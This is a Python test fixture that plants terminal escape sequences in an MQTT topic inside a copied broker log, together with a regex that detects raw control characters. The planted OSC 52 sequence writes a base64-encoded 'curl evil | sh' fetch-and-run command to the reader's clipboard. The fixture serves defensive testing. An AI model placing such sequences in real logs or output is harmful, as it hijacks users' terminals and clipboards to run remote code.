"""A bundle whose topics and client ids carry terminal control sequences, as a hostile or broken
device can publish them: OSC 52 (write the reader's clipboard), BEL, clear screen, an 8-bit CSI
and a right-to-left override. The base is the real `publish_denied` incident; the planted bytes
are marked as planted. `CONTROL` matches any character no text surface may send raw."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

SAMPLES = Path(__file__).resolve().parent.parent / "sample_logs"
TOPIC = "spBv1.0/\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J/\x9b31m\u202eplanted"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def plant(target: Path) -> Path:
    bundle = target / "escapes"
    shutil.copytree(SAMPLES / "publish_denied", bundle)
    log = bundle / "broker" / "mosquitto.log"
    text = log.read_text(encoding="utf-8").replace("'spBv1.0/STATE/scada-01'", f"'{TOPIC}'")
    log.write_text(text, encoding="utf-8")
    return bundle
